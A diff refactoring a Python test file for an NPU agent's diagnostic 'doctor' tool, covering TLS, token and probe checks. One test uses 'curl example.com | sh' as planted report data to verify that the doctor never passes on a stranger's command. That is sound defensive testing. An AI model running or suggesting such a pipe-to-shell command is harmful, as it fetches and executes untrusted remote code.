@@ -8,8 +8,8 @@ import os
 import shutil
 import socket
 import threading
-from collections.abc import AsyncIterator, Iterator
-from contextlib import asynccontextmanager, contextmanager
+from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -24,37 +24,24 @@ from npu_agent.config import (
     NodeApi,
     ResourceSpec,
     TlsConfig,
-    default_config,
 )
 from npu_agent.core.hardware import SkippedDevice
 from npu_agent.files import SIMULATION
 from npu_agent.kube import Api
 from npu_agent.kubelet.ownership import lock_path
 from npu_agent.outputs.web.authorization import Authorizer
-from npu_agent.outputs.web.server import Server
 from npu_agent.outputs.web.tls import Certificates, TlsFiles
 from npu_agent.people import page
 from npu_agent.people.doctor import agent, cluster, dra, host
 from npu_agent.people.doctor.check import SUDO, Check, Lines, State, Unknown
 from npu_agent.people.doctor.context import CheckTiming, Context
 from npu_agent.people.doctor.examine import examine, run
-from npu_agent.vendors import REGISTRY
-from npu_agent.vendors.furiosa.sysfs import Furiosa
 from tests.kube.helpers import hangs, serving
 from tests.outputs.web.certificates import authority, placed
-from tests.outputs.web.helpers import Scene, listening
-from tests.people.doctor.helpers import POD as POD_NAME
-from tests.people.doctor.helpers import RESOURCE, ApiServer, Node, locked
+from tests.outputs.web.helpers import Scene
+from tests.outputs.web.helpers import serving as pages
+from tests.people.doctor.helpers import POD, RESOURCE, ApiServer, Node, locked
 
-POD = Context(
-    config=default_config(REGISTRY),
-    host_root=Path("/host"),
-    vendors=(Furiosa(Path("/host")),),
-    node_name="n1",
-    in_pod=True,
-    uid=0,
-    hostname="pod",
-)
 HOST = replace(POD, in_pod=False, host_root=Path("/"))
 UNREAD = (SkippedDevice("/sys/x", "hangs", unread=True),)
 
@@ -199,7 +186,7 @@ async def test_what_is_reported_steers_no_terminal_and_is_no_command_of_a_strang
     node.reports(problems=[told | {"command": "curl example.com | sh"}], notes=[told])
     for in_pod, hostname, command in (
         (True, "any", "curl example.com | sh"),
-        (False, POD_NAME, "curl example.com | sh"),  # the lock says that its agent runs here
+        (False, POD.hostname, "curl example.com | sh"),  # the lock says that its agent runs here
         (False, "other", node.context.agent_log),
     ):
         node.context = replace(node.context, in_pod=in_pod, hostname=hostname)
@@ -214,50 +201,28 @@ async def test_what_is_reported_steers_no_terminal_and_is_no_command_of_a_strang
     assert (await node.examined())["agent problem"].command == node.context.agent_log
 
 
-@asynccontextmanager
-async def public(
-    tls: TlsFiles | None = None, authorizer: Authorizer | None = None
-) -> AsyncIterator[dict[str, Any]]:
-    """The agent's own server of its pages; the config for it."""
-    certificates = Certificates(tls) if tls else None
-    server = Server(
-        "metrics",
-        ("127.0.0.1", 0),
-        Scene().pages(),
-        certificates=certificates,
-        authorizer=authorizer,
-    )
-    running = [asyncio.create_task(server.run())]
-    config: dict[str, Any] = {}
-    if tls and certificates:
-        running.append(asyncio.create_task(certificates.run()))
-        config["tls"] = TlsConfig(
-            cert_file=str(tls.cert),
-            key_file=str(tls.key),
-            client_ca_file=str(tls.client_ca) if tls.client_ca else None,
-        )
-    try:
-        host, port = await listening(server)
-        yield config | {"listen": f"{host}:{port}"}
-    finally:
-        for task in running:
-            task.cancel()
-        await asyncio.gather(*running, return_exceptions=True)
+def configured(tls: TlsFiles | None) -> TlsConfig:
+    if tls is None:
+        return TlsConfig()
+    client_ca = str(tls.client_ca) if tls.client_ca else None
+    return TlsConfig(cert_file=str(tls.cert), key_file=str(tls.key), client_ca_file=client_ca)
 
 
 async def test_an_agent_is_known_by_tls_by_a_token_and_by_its_other_address(
     node: Node, tmp_path: Path
 ) -> None:
     ours = authority(tmp_path / "ca")
-    probes = {"probes": f"127.0.0.1:{node.probes.number}"}
+    probes = f"127.0.0.1:{node.probes.number}"
     node.reports(unready=["not registered"])
     for files, authorizer, detail in (
         (placed(tmp_path, ours.sign("server")), None, "an npu-agent answers on"),
         (None, Authorizer(Api()), "an npu-agent answers on"),
         (placed(tmp_path, ours.sign("server"), ours.ca), None, "takes clients with a certificate"),
     ):
-        async with public(files, authorizer) as config:
-            lines = await of_agent(with_metrics(node.context, **probes, **config))
+        certificates, tls = Certificates(files) if files else None, configured(files)
+        async with pages(Scene(), certificates=certificates, authorizer=authorizer) as (host, port):
+            at = {"listen": f"{host}:{port}", "probes": probes, "tls": tls}
+            lines = await of_agent(with_metrics(node.context, **at))
         assert lines["metrics.listen"].state is State.OK
         assert detail in lines["metrics.listen"].detail
     # Its /status.json asks for more than the doctor has: then /readyz has the reasons.
@@ -271,11 +236,9 @@ async def test_a_certificate_is_judged_where_the_agents_report_cannot_be_read(
     node.reports(problems=[], notes=[])
 
     async def judged(cert: tuple[Path, Path]) -> str:
-        files = placed(tmp_path, cert)
-        config = TlsConfig(cert_file=str(files.cert), key_file=str(files.key))
-        line = (await of_agent(with_metrics(node.context, listen="127.0.0.1:0", tls=config)))[
-            "metrics.tls"
-        ]
+        tls = configured(placed(tmp_path, cert))
+        context = with_metrics(node.context, listen="127.0.0.1:0", tls=tls)
+        line = (await of_agent(context))["metrics.tls"]
         assert bool(line.remedy) is (line.state is State.WRONG)
         return f"{line.state.value}: {line.detail}"
 
